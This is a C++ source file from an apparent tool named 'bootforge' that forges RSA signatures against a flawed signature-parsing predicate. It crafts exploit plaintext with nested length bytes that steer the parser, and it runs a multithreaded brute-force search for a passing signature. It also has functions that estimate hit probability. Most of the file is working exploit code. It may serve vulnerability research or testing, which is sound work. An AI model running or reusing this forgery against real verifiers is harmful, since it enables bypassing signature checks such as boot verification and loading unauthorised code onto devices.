// Copyright 2026 The bootforge Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "bootforge/forge.hpp"

#include <algorithm>
#include <atomic>
#include <cmath>
#include <condition_variable>
#include <mutex>
#include <random>
#include <thread>
#include <vector>

#include "json.hpp"

#include "bootforge/error.hpp"

namespace bootforge::forge {

namespace {

using Clock = std::chrono::steady_clock;

// Terminator sits 0x21 bytes before the block end, as in the known exploit
// plaintext (0xDF in a 0x100-byte block).
constexpr std::size_t kTerminatorFromEnd = 0x21;
constexpr std::size_t kWindowSpan = 128;
constexpr int kOracleRetries = 64;
constexpr std::uint64_t kBatch = 1024;

std::mt19937_64 make_engine(const Seed& seed) {
  std::seed_seq seq(seed.bytes.begin(), seed.bytes.end());
  return std::mt19937_64(seq);
}

// Big-endian byte at position `index` (0 = most significant) of a
// block_length-byte encoding of a fixed-width little-endian residue.
inline std::uint8_t residue_byte(const Montgomery::Residue& r, std::size_t block_length,
                                 std::size_t index) {
  const std::size_t significance = block_length - 1 - index;
  const std::size_t limb = significance / 8;
  if (limb >= r.size()) return 0;
  return static_cast<std::uint8_t>(r[limb] >> (8 * (significance % 8)));
}

inline bool flag_bytes_ok(std::uint8_t b0, std::uint8_t b1) {
  return b0 == 0x00 && (b1 == 0x01 || b1 == 0x02);
}

void encode_residue(const Montgomery::Residue& r, std::vector<std::uint8_t>& out) {
  for (std::size_t i = 0; i < out.size(); ++i) out[i] = residue_byte(r, out.size(), i);
}

}  // namespace

std::string to_json(const ForgeResult& result) {
  nlohmann::ordered_json j;
  j["signature"] = result.signature.to_hex();
  j["landing_offset"] = result.landing_offset;
  j["attempts"] = result.attempts;
  j["elapsed_ms"] = std::chrono::duration_cast<std::chrono::milliseconds>(result.elapsed).count();
  j["seed"] = result.seed.to_hex();
  j["negated"] = result.negated;
  return j.dump(2);
}

sig::PlaintextBlock craft_exploit_plaintext(std::size_t block_length, std::ptrdiff_t landing_offset,
                                            const Seed& filler_seed) {
  if (block_length < kTerminatorFromEnd + 2) {
    throw DomainError("craft_exploit_plaintext: block too short for the exploit layout");
  }
  const auto bl = static_cast<std::ptrdiff_t>(block_length);
  if (landing_offset < bl || landing_offset >= bl + static_cast<std::ptrdiff_t>(kWindowSpan)) {
    throw DomainError("craft_exploit_plaintext: landing offset must be in [block_length, block_length + 127]");
  }
  const std::size_t t = block_length - kTerminatorFromEnd;
  const auto inner_length = static_cast<std::size_t>(landing_offset - static_cast<std::ptrdiff_t>(t) - 7);
  if (inner_length > 0xFF) throw DomainError("craft_exploit_plaintext: unreachable landing offset");

  SeedStream filler(filler_seed.derive("craft"));
  std::vector<std::uint8_t> out(block_length);
  out[0] = 0x00;
  out[1] = 0x02;
  for (std::size_t i = 2; i < t; ++i) out[i] = filler.next_nonzero_byte();
  out[t] = 0x00;
  out[t + 1] = 0x30;
  filler.fill(std::span(&out[t + 2], 1));  // outer length: never used by the walk
  out[t + 3] = 0x30;
  out[t + 4] = static_cast<std::uint8_t>(inner_length);
  filler.fill(std::span(out).subspan(t + 5));
  return sig::PlaintextBlock(std::move(out));
}

ForgeResult forge_with_private_key(const RsaKeyPair& key, std::ptrdiff_t landing_offset, const Seed& seed) {
  if (key.d.is_zero()) throw DomainError("forge_with_private_key: key has no private exponent");
  const auto start = Clock::now();
  for (int attempt = 0; attempt < kOracleRetries; ++attempt) {
    sig::PlaintextBlock plaintext =
        craft_exploit_plaintext(key.block_length(), landing_offset, seed.derive("oracle", static_cast<std::uint64_t>(attempt)));
    const BigUint m = plaintext.to_value();
    if (m >= key.n) continue;
    BigUint signature = raw_sign(m, key);
    return ForgeResult{std::move(signature), std::move(plaintext), landing_offset, 1,
                       Clock::now() - start, false, seed, BigUint{}, 0};
  }
  throw InternalError("forge_with_private_key: crafted plaintext never fell below n");
}

// ---------------------------------------------------------------------------
// Search

namespace {

struct SharedSearch {
  std::atomic<bool> stop{false};
  std::atomic<std::uint64_t> budget_used{0};
  std::vector<std::atomic<std::uint64_t>> published;

  std::mutex mu;
  std::condition_variable cv;
  std::size_t finished = 0;
  std::optional<ForgeResult> result;

  explicit SharedSearch(std::size_t workers) : published(workers) {}
};

void search_worker(std::size_t index, const PublicKey& key, const Montgomery& mont,
                   const sig::ParserConfig& config, const SearchOptions& options, SharedSearch& shared,
                   Clock::time_point start) {
  const std::size_t bl = key.block_length();
  SeedStream stream(options.seed.derive("search-root", index));
  const BigUint root = stream.uniform_range(BigUint(2), key.n);  // 1 < r < n
  const Montgomery::Residue k_mont = mont.to_mont(mont.residue(mont.pow(root, key.e)));

  Montgomery::Residue y = mont.residue(BigUint(1));
  Montgomery::Residue neg(y.size());
  const auto n_limbs = key.n.limbs();
  std::vector<std::uint8_t> encoded(bl);
  const bool window_empty = config.target_window.empty();

  std::uint64_t z = 0;
  std::uint64_t attempts = 0;
  std::uint64_t allowance = 0;

  auto test = [&](const Montgomery::Residue& value) -> std::optional<std::ptrdiff_t> {
    ++attempts;
    --allowance;
    if (window_empty) return std::nullopt;
    if (!flag_bytes_ok(residue_byte(value, bl, 0), residue_byte(value, bl, 1))) return std::nullopt;
    encode_residue(value, encoded);
    return sig::classify_plaintext(encoded, config);
  };

  auto finish_hit = [&](std::ptrdiff_t landing, bool negated) {
    BigUint signature = mont.pow(root, BigUint(z));
    if (negated) signature = key.n - signature;
    const BigUint expected = negated ? mont.value(neg) : mont.value(y);
    if (raw_verify(signature, key) != expected) {
      throw InternalError("brute_force_search: hit failed the final verification");
    }
    std::lock_guard lock(shared.mu);
    if (shared.result) return;  // someone else won
    shared.result = ForgeResult{std::move(signature), sig::PlaintextBlock(encoded), landing, 0,
                                Clock::now() - start, negated, options.seed, root, z};
    shared.stop.store(true, std::memory_order_relaxed);
  };

  for (;;) {
    if (allowance < 2) {
      shared.published[index].store(attempts, std::memory_order_relaxed);
      if (shared.stop.load(std::memory_order_relaxed)) break;
      if (allowance == 0) {
        const std::uint64_t reserved = shared.budget_used.fetch_add(kBatch, std::memory_order_relaxed);
        if (reserved >= options.max_attempts) break;
        allowance = std::min(kBatch, options.max_attempts - reserved);
      }
    }

    ++z;
    mont.mul(y, k_mont, y);
    if (options.chain_check_interval != 0 && z % options.chain_check_interval == 0) {
      if (mont.value(y) != mod_exp(root, key.e * BigUint(z), key.n)) {
        throw InternalError("brute_force_search: chain diverged from r^(e*z)");
      }
    }

    if (auto landing = test(y)) {
      finish_hit(*landing, false);
      break;
    }
    if (allowance == 0) continue;  // budget ends between the two tests

    // n - y; y is never zero because r is a unit mod n.
    std::uint64_t borrow = 0;
    for (std::size_t i = 0; i < neg.size(); ++i) {
      const std::uint64_t d1 = n_limbs[i] - y[i];
      const std::uint64_t b1 = n_limbs[i] < y[i];
      neg[i] = d1 - borrow;
      borrow = b1 | (d1 < borrow);
    }
    if (auto landing = test(neg)) {
      finish_hit(*landing, true);
      break;
    }
  }

  shared.published[index].store(attempts, std::memory_order_relaxed);
  std::lock_guard lock(shared.mu);
  ++shared.finished;
  shared.cv.notify_all();
}

}  // namespace

std::optional<ForgeResult> brute_force_search(const PublicKey& key, const sig::ParserConfig& config,
                                              const SearchOptions& options) {
  if (config.mode != sig::ParserMode::Flawed) {
    throw DomainError("brute_force_search: search needs the flawed predicate");
  }
  if (options.workers == 0) throw DomainError("brute_force_search: worker_count must be >= 1");
  if (key.n <= BigUint(3)) throw DomainError("brute_force_search: modulus too small");

  const Montgomery mont(key.n);
  SharedSearch shared(options.workers);
  const auto start = Clock::now();

  std::vector<std::jthread> threads;
  threads.reserve(options.workers);
  std::exception_ptr failure;
  std::mutex failure_mu;
  for (std::size_t i = 0; i < options.workers; ++i) {
    threads.emplace_back([&, i] {
      try {
        search_worker(i, key, mont, config, options, shared, start);
      } catch (...) {
        {
          std::lock_guard lock(failure_mu);
          if (!failure) failure = std::current_exception();
        }
        shared.stop.store(true);
        std::lock_guard lock(shared.mu);
        ++shared.finished;
        shared.cv.notify_all();
      }
    });
  }

  auto total_attempts = [&] {
    std::uint64_t sum = 0;
    for (const auto& p : shared.published) sum += p.load(std::memory_order_relaxed);
    return sum;
  };

  {
    std::unique_lock lock(shared.mu);
    while (shared.finished < options.workers) {
      const bool done = shared.cv.wait_for(lock, options.progress_interval,
                                           [&] { return shared.finished >= options.workers; });
      if (done) break;
      if (options.on_progress) {
        const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
        const std::uint64_t attempts = total_attempts();
        lock.unlock();
        options.on_progress({attempts, elapsed > 0 ? static_cast<double>(attempts) / elapsed : 0.0, elapsed});
        lock.lock();
      }
    }
  }
  threads.clear();
  if (failure) std::rethrow_exception(failure);

  if (!shared.result) return std::nullopt;
  shared.result->attempts = total_attempts();
  return std::move(shared.result);
}

// ---------------------------------------------------------------------------
// Estimation

HitEstimate wilson_interval(std::uint64_t hits, std::uint64_t samples) {
  HitEstimate e;
  e.samples = samples;
  e.hits = hits;
  if (samples == 0) return e;
  constexpr double z = 1.959963984540054;
  const double n = static_cast<double>(samples);
  const double p = static_cast<double>(hits) / n;
  const double denom = 1.0 + z * z / n;
  const double center = (p + z * z / (2 * n)) / denom;
  const double half = z / denom * std::sqrt(p * (1 - p) / n + z * z / (4 * n * n));
  e.p_hat = p;
  e.ci_low = std::max(0.0, center - half);
  e.ci_high = std::min(1.0, center + half);
  return e;
}

namespace {

constexpr std::uint64_t kMinSamples = 100000;

void check_samples(std::uint64_t samples) {
  if (samples < kMinSamples) throw DomainError("estimate_hit_probability: need at least 10^5 samples");
}

void fill_from(std::mt19937_64& rng, std::span<std::uint8_t> out) {
  std::size_t i = 0;
  while (i < out.size()) {
    std::uint64_t w = rng();
    for (int b = 0; b < 8 && i < out.size(); ++b, ++i) {
      out[i] = static_cast<std::uint8_t>(w >> (56 - 8 * b));
    }
  }
}

}  // namespace

HitEstimate estimate_hit_probability(std::size_t block_length, const sig::ParserConfig& config,
                                     std::uint64_t samples, const Seed& seed) {
  check_samples(samples);
  if (config.target_window.empty()) return wilson_interval(0, samples);
  auto rng = make_engine(seed.derive("estimate"));
  std::vector<std::uint8_t> block(block_length);
  std::uint64_t hits = 0;
  for (std::uint64_t s = 0; s < samples; ++s) {
    const std::uint64_t head = rng();
    if (!flag_bytes_ok(static_cast<std::uint8_t>(head >> 56), static_cast<std::uint8_t>(head >> 48))) continue;
    // Rest of the block only matters once the flag bytes pass.
    for (std::size_t i = 0; i < std::min<std::size_t>(8, block_length); ++i) {
      block[i] = static_cast<std::uint8_t>(head >> (56 - 8 * i));
    }
    if (block_length > 8) fill_from(rng, std::span(block).subspan(8));
    if (sig::classify_plaintext(block, config)) ++hits;
  }
  return wilson_interval(hits, samples);
}

HitEstimate estimate_hit_probability(std::size_t block_length,
                                     const std::function<bool(std::span<const std::uint8_t>)>& predicate,
                                     std::uint64_t samples, const Seed& seed) {
  check_samples(samples);
  auto rng = make_engine(seed.derive("estimate-generic"));
  std::vector<std::uint8_t> block(block_length);
  std::uint64_t hits = 0;
  for (std::uint64_t s = 0; s < samples; ++s) {
    fill_from(rng, block);
    if (predicate(block)) ++hits;
  }
  return wilson_interval(hits, samples);
}

HitEstimate estimate_hit_probability_below(const BigUint& n, const sig::ParserConfig& config,
                                           std::uint64_t samples, const Seed& seed) {
  check_samples(samples);
  if (n.bit_length() < 16) throw DomainError("estimate_hit_probability_below: modulus too small");
  if (config.target_window.empty()) return wilson_interval(0, samples);
  const std::size_t bl = n.byte_length();
  const std::vector<std::uint8_t> n_bytes = n.to_bytes_be(bl);
  auto rng = make_engine(seed.derive("estimate-below"));
  std::vector<std::uint8_t> block(bl);
  std::uint64_t hits = 0;
  for (std::uint64_t s = 0; s < samples;) {
    const std::uint64_t head = rng();
    const auto b0 = static_cast<std::uint8_t>(head >> 56);
    if (b0 > n_bytes[0]) continue;  // rejected: above n
    bool full = b0 == n_bytes[0];
    if (!full && !flag_bytes_ok(b0, static_cast<std::uint8_t>(head >> 48))) {
      ++s;
      continue;
    }
    for (std::size_t i = 0; i < std::min<std::size_t>(8, bl); ++i) {
      block[i] = static_cast<std::uint8_t>(head >> (56 - 8 * i));
    }
    if (bl > 8) fill_from(rng, std::span(block).subspan(8));
    if (full && !std::lexicographical_compare(block.begin(), block.end(), n_bytes.begin(), n_bytes.end())) {
      continue;  // rejected: >= n
    }
    ++s;
    if (sig::classify_plaintext(block, config)) ++hits;
  }
  return wilson_interval(hits, samples);
}

}  // namespace bootforge::forge
